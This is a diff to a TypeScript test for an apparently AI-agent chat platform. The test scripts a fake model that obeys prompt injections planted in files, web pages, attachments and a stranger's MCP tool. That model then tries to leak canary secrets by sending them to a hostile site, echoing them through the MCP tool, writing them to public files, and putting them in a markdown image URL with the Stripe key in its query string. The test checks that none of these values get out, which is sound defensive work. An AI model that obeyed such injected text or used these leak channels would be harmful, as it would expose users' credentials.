@@ -2,7 +2,7 @@ import { once } from "node:events";
 import { createServer } from "node:http";
 import type { AddressInfo } from "node:net";
 import { expect, test } from "vitest";
-import { call, say, script, turn, when, type Part, type ScriptItem, type ScriptRequest } from "@tesslate/testkit";
+import { call, say, script, startMcpServer, turn, when, type Part, type ScriptItem, type ScriptRequest } from "@tesslate/testkit";
 import { chatWorld, find, plantedKey } from "../../testing/chat.ts";
 import { injections, type Injection } from "../../testing/injections.ts";
 import { emptyProject } from "../../testing/sandbox.ts";
@@ -50,7 +50,7 @@ async function hostileSite() {
 }
 
 /** How the model comes to read it. */
-const looksAt = ({ place }: Injection, site: string): Part | undefined => {
+const looksAt = ({ place, text }: Injection, site: string): Part | undefined => {
   switch (place.kind) {
     case "file":
       return call("read_file", { file_path: place.path });
@@ -58,6 +58,8 @@ const looksAt = ({ place }: Injection, site: string): Part | undefined => {
       return call("bash_exec", { command: place.command });
     case "page":
       return call("web_fetch", { url: site + place.path });
+    case "mcp":
+      return call("mcp__fake__echo", { text });
     case "name":
       return call("list_dir", { path: "names" });
     default:
@@ -80,7 +82,11 @@ const sendsOn = (site: string): Part[] =>
 
 test("an obedient model that reads hostile text everywhere moves no planted value out", async () => {
   await using site = await hostileSite();
-  await using world = await chatWorld({ env: { OUTBOUND_ALLOW_HOSTS: site.address, TESSLATE_FEATURE_WEB_SEARCH: "1" }, model: {} });
+  await using stranger = await startMcpServer();
+  await using world = await chatWorld({
+    env: { OUTBOUND_ALLOW_HOSTS: `${site.address},${stranger.host}`, TESSLATE_FEATURE_WEB_SEARCH: "1" },
+    model: {},
+  });
   const { app, owner } = world;
   const other = await app.signUp({ name: "Other" });
   const otherProject = await emptyProject(app, other);
@@ -106,6 +112,7 @@ test("an obedient model that reads hostile text everywhere moves no planted valu
     ["DATABASE_URL", canaries["the project's database"]],
   ] as const)
     await app.as(owner).secrets.set({ params: { project_id: world.project.id }, body: { key, value } });
+  await app.as(owner).mcp.create({ body: { name: "fake", transport: "http", url: stranger.url } });
   await files.write(".env", env);
   const byFile = new Map<string, string>();
   for (const { place, text } of cases) {
@@ -134,6 +141,7 @@ test("an obedient model that reads hostile text everywhere moves no planted valu
       turn(...group.flatMap((one) => one.obeys)),
       turn(
         ...sendsOn(site.url),
+        call("mcp__fake__echo", (request) => ({ text: everything(request).slice(-20_000) })),
         call("write_file", (request) => ({ file_path: `public/leak-${index}.txt`, content: everything(request).slice(-20_000) })),
       ),
       say(`Here it is: ![x](${site.url}/pixel.png?d=[secret:STRIPE_KEY]) <img src="${site.url}/p.gif"> [more](${site.url}/collect)`),
@@ -141,12 +149,22 @@ test("an obedient model that reads hostile text everywhere moves no planted valu
   ]);
   world.model.setScript(script(obedience));
 
+  const upload = async (name: string, text: string): Promise<string> => {
+    const body = new FormData();
+    body.append("file", new Blob([text], { type: "text/plain" }), name);
+    const response = await app.request(`/api/chat/attachments?project_id=${world.project.id}`, { method: "POST", user: owner, body });
+    return ((await response.json()) as { id: string }).id;
+  };
   const told: string[] = [];
   let obeyed = 0;
   for (const [index, group] of groups.entries()) {
     const session = await app.as(owner).chat.createSession({ body: { project_id: world.project.id } });
     const pasted = group.flatMap((one) => (one.place.kind === "message" ? [one.text] : [])).join("\n");
-    const events = await world.run(`Work on group ${index} of the notes. ${pasted}`, { chat_id: session.id });
+    const attachments = await Promise.all(group.map((one) => (one.place.kind === "attachment" ? upload(one.place.name, one.text) : [])));
+    const events = await world.run(`Work on group ${index} of the notes. ${pasted}`, {
+      chat_id: session.id,
+      attachments: attachments.flat(),
+    });
     expect(find(events, "complete")?.data, `group ${index}`).toMatchObject({ success: true });
     obeyed += events.flatMap((e) => (e.type === "agent_step" && e.data.iteration === 2 ? e.data.tool_results : [])).length;
     told.push(JSON.stringify(events));
@@ -156,6 +174,7 @@ test("an obedient model that reads hostile text everywhere moves no planted valu
   const asked = world.model.requests.map((request) => JSON.stringify(request.body));
   const unread = cases.filter(({ id }) => !asked.some((body) => body.includes(id))).map(({ id }) => id);
   expect(unread).toEqual([]);
+  expect(stranger.calls.filter((one) => one.tool === "echo").length).toBe(groups.length + 4);
   expect(obeyed).toBe(cases.reduce((sum, one) => sum + one.obeys.length, 0));
 
   const rows: string[] = [];
@@ -175,6 +194,7 @@ test("an obedient model that reads hostile text everywhere moves no planted valu
     "events as told": told,
     "rows of the database": rows,
     "requests to other servers": site.arrived,
+    "calls of a stranger's tools": stranger.calls.map((one) => JSON.stringify(one)),
     "the log": [app.logs()],
     "files that are served": [...written, ...public_],
   };
